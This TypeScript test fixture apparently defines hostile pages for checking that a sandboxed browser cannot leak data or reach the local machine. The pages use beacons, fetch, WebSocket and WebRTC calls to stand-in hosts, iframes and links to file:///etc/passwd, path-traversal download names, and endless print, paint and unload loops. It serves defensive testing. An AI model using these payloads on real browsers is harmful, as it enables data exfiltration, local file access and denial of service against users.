/**
 * Pages that try to get out, or to get at this machine, by ways that are no request of a script: what the browser itself sends,
 * opens, saves, prints or asks its user. Each name of inner.test that they use says which way it is.
 */

export interface Trick {
  readonly headers?: Readonly<Record<string, string>>;
  readonly status?: number;
  readonly body: string;
}

const HOST = '10.0.0.1:8080';
/** Over https, which some of these ways require. */
const TLS = 'https://10.0.0.1:8443';
const page = (title: string, body: string, head = ''): string =>
  `<!doctype html><html lang="en"><head><title>${title}</title>${head}</head><body><h1>${title}</h1><p>Some text of the page.</p>${body}</body></html>`;
const scripted = (title: string, code: string): Trick => ({ body: page(title, `<script>${code}</script>`) });
const tryEach = (...lines: string[]): string => lines.map((line) => `try { ${line} } catch {}`).join('\n');

/** By path. */
export const TRICKS: Readonly<Record<string, Trick>> = {
  '/transports': scripted(
    'Sockets that are not HTTP',
    tryEach(
      `new WebTransport('${TLS}/t').ready.catch(() => {})`,
      `new WebTransport('https://transport.inner.test:8443/t').ready.catch(() => {})`,
      `new WebSocketStream('ws://${HOST}/s').opened.catch(() => {})`,
      `const f = document.createElement('iframe'); document.body.append(f); const peer = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:10.0.0.1:3478' }, { urls: 'stun:frame-stun.inner.test:3478' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
      `new TCPSocket('10.0.0.1', 8080)`,
      `new UDPSocket({ remoteAddress: '10.0.0.1', remotePort: 3478 })`,
    ),
  ),
  '/workers': scripted(
    'Workers',
    tryEach(
      `var code = URL.createObjectURL(new Blob(['for (const host of ["${HOST}", "worker.inner.test"]) { fetch("http://" + host + "/w", { method: "POST", body: "x", mode: "no-cors" }).catch(() => {}); try { importScripts("http://" + host + "/i.js") } catch {} try { new WebSocket("ws://" + host) } catch {} } new Worker(URL.createObjectURL(new Blob(["fetch(\\'http://${HOST}/nested\\')"])))']))`,
      `new Worker(code); new SharedWorker(code)`,
      `navigator.serviceWorker.register('/sw.js').catch(() => {})`,
      `new AudioContext().audioWorklet.addModule('http://${HOST}/a.js').catch(() => {})`,
      `CSS.paintWorklet.addModule('http://${HOST}/p.js').catch(() => {})`,
    ),
  ),
  '/reports': {
    headers: {
      'content-security-policy': `img-src 'none'; report-uri http://csp.inner.test/c http://${HOST}/c; report-to out`,
      'report-to': `{"group":"out","max_age":9,"endpoints":[{"url":"https://report.inner.test/r"},{"url":"${TLS}/r"}]}`,
      'reporting-endpoints': `out="${TLS}/e"`,
      nel: '{"report_to":"out","max_age":9,"success_fraction":1}',
      link: `<http://${HOST}/early.css>; rel=preload; as=style, <http://hint.inner.test>; rel=preconnect`,
      'alt-svc': 'h3="10.0.0.1:8443"; ma=9',
      'attribution-reporting-register-source': `{"destination":"https://a.site.test"}`,
    },
    body: page(
      'Reports of the browser',
      `<img src="/a.png"><a id="ping" href="#x" ping="http://ping.inner.test/p http://${HOST}/p" attributionsrc="${TLS}/s">Go</a><img attributionsrc="${TLS}/i" src="/b.png">
<script>ping.click(); navigator.sendBeacon('http://${HOST}/b', 'x'); addEventListener('pagehide', () => { navigator.sendBeacon('http://beacon.inner.test/b', 'x'); fetch('http://${HOST}/k', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }); }); try { fetchLater('${TLS}/later', { method: 'POST', activateAfter: 0 }) } catch {}</script>`,
    ),
  },
  '/speculates': {
    body: page(
      'Loads ahead',
      `<script type="speculationrules">{"prerender":[{"urls":["/prerendered","http://${HOST}/r"],"eagerness":"immediate"}],"prefetch":[{"urls":["http://${HOST}/p","http://ahead.inner.test/p"],"eagerness":"immediate","referrer_policy":"no-referrer"}]}</script>`,
      `<link rel="manifest" href="http://${HOST}/m.json"><link rel="icon" href="http://${HOST}/i.ico"><link rel="modulepreload" href="http://${HOST}/m.js"><link rel="prerender" href="http://${HOST}/pr"><link rel="dns-prefetch" href="//resolve.inner.test"><link rel="preconnect" href="http://connect.inner.test"><link rel="search" type="application/opensearchdescription+xml" href="http://${HOST}/o.xml"><style>@import url(http://${HOST}/s.css); @font-face { font-family: f; src: url(http://${HOST}/f.woff2) } body { font-family: f; background: image-set(url(http://${HOST}/1.png) 1x) }</style>`,
    ),
  },
  '/prerendered': {
    body: page(
      'Prerendered',
      `<script>fetch('http://prerendered.inner.test/f', { method: 'POST', body: 'x' })</script>`,
    ),
  },
  '/signs-in': scripted(
    'Asks for accounts, payment and devices',
    tryEach(
      `navigator.credentials.get({ identity: { providers: [{ configURL: '${TLS}/fedcm.json', clientId: 'a' }] } }).catch(() => {})`,
      `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }).catch(() => {})`,
      `const pay = new PaymentRequest([{ supportedMethods: 'https://pay.inner.test/method' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }); pay.canMakePayment().catch(() => {}); pay.show().catch(() => {})`,
      `navigator.joinAdInterestGroup({ owner: location.origin, name: 'a', biddingLogicURL: '${TLS}/b.js', updateURL: '${TLS}/u' }, 9).catch(() => {})`,
      `navigator.requestMIDIAccess().catch(() => {}); navigator.clipboard.readText().catch(() => {}); navigator.share({ url: 'http://${HOST}/' }).catch(() => {})`,
      `showOpenFilePicker().catch(() => {}); showSaveFilePicker().catch(() => {}); const file = document.createElement('input'); file.type = 'file'; document.body.append(file); file.click(); file.showPicker()`,
      `navigator.registerProtocolHandler('web+x', 'http://site.test/%s')`,
      `for (const device of ['usb', 'bluetooth', 'hid', 'serial']) navigator[device]?.requestDevice?.({ filters: [] }).catch(() => {})`,
    ),
  ),
  '/opens': {
    body: page(
      'Opens what is local',
      [
        'file:///etc/passwd',
        'chrome://version',
        'chrome://net-internals/#dns',
        'view-source:file:///etc/passwd',
        'devtools://devtools/bundled/inspector.html',
        'filesystem:file:///etc/passwd',
      ]
        .map((url) => `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`)
        .join('') +
        `<script>${tryEach(
          `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open('http://${HOST}/popup'); f.contentWindow.open('file:///etc/passwd')`,
          `const a = document.createElement('a'); a.target = '_blank'; a.rel = 'noopener'; for (const url of ['file:///etc/passwd', 'chrome://version', 'ssh://10.0.0.1', 'mailto:a@inner.test', 'http://${HOST}/tab']) { a.href = url; document.body.append(a); a.click(); }`,
          `fetch('file:///etc/passwd').then((r) => r.text()).then((text) => document.body.append(text)).catch(() => {})`,
          `documentPictureInPicture.requestWindow().catch(() => {})`,
        )}</script>`,
    ),
  },
  '/refreshes': { body: page('Goes on', '', '<meta http-equiv="refresh" content="0;url=/refreshes-on">') },
  '/refreshes-on': { headers: { refresh: '0;url=/refreshes-out' }, body: page('Goes on', '') },
  '/refreshes-out': { headers: { refresh: `0;url=http://${HOST}/refreshed` }, body: page('Goes out', '') },
  '/refreshes-to-file': { headers: { refresh: '0;url=file:///etc/passwd' }, body: page('Goes to a file', '') },
  '/saves': {
    body: page(
      'Saves files',
      `<iframe src="/file.bin"></iframe><script>${tryEach(
        `for (let n = 0; n < 30; n += 1) { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['saved-by-a-page '.repeat(1e4)])); a.download = '../../saved-' + n + '.sh'; document.body.append(a); a.click(); }`,
        `const b = document.createElement('a'); b.href = 'http://${HOST}/download'; b.download = 'x'; document.body.append(b); b.click(); location.href = '/file.bin'`,
      )}</script>`,
    ),
  },
  '/file.bin': {
    headers: {
      'content-type': 'application/octet-stream',
      'content-disposition': 'attachment; filename="../../saved.sh"',
    },
    body: 'saved-by-a-page '.repeat(10_000),
  },
  '/holds': scripted(
    'Does not let go',
    tryEach(
      `addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'stay'; alert(1); })`,
      `addEventListener('pagehide', () => { const until = Date.now() + 20000; while (Date.now() < until); })`,
      `addEventListener('unload', () => { open('http://${HOST}/unload'); for (;;); })`,
      `document.documentElement.requestFullscreen().catch(() => {}); document.body.requestPointerLock()`,
      `setTimeout(() => { location.href = '/refreshes-out' }, 3000)`,
    ),
  ),
  '/prints': scripted(
    'Prints without end',
    tryEach(
      `print(); var f = document.createElement('iframe'); document.body.append(f)`,
      `setInterval(() => { f.contentWindow.print(); document.execCommand('print'); print() }, 1)`,
    ),
  ),
  '/paints': scripted(
    'Paints without end',
    tryEach(
      `const all = []; setInterval(() => { const c = document.createElement('canvas'); c.width = c.height = 16000; const x = c.getContext('2d'); x.fillRect(0, 0, 16000, 16000); all.push(c, x.getImageData(0, 0, 8000, 8000)); const g = document.createElement('canvas').getContext('webgl2'); all.push(g); c.toBlob(() => {}) }, 20)`,
    ),
  ),
};

/** Pages that a browser is to look at: the others are led to. */
export const TRICK_PATHS: readonly string[] = Object.keys(TRICKS).filter(
  (path) => !['/prerendered', '/refreshes-on', '/file.bin'].includes(path),
);

/**
 * Names that a browser asks for by itself or to send something: no way of these is a request of a page that a scan makes, so
 * a scan may not ask for them.
 */
export const NEVER_ASKED: readonly string[] = [
  ...[
    'transport',
    'frame-stun',
    'csp',
    'report',
    'hint',
    'ping',
    'beacon',
    'ahead',
    'resolve',
    'connect',
    'prerendered',
  ],
  'pay',
].map((name) => `${name}.inner.test`);
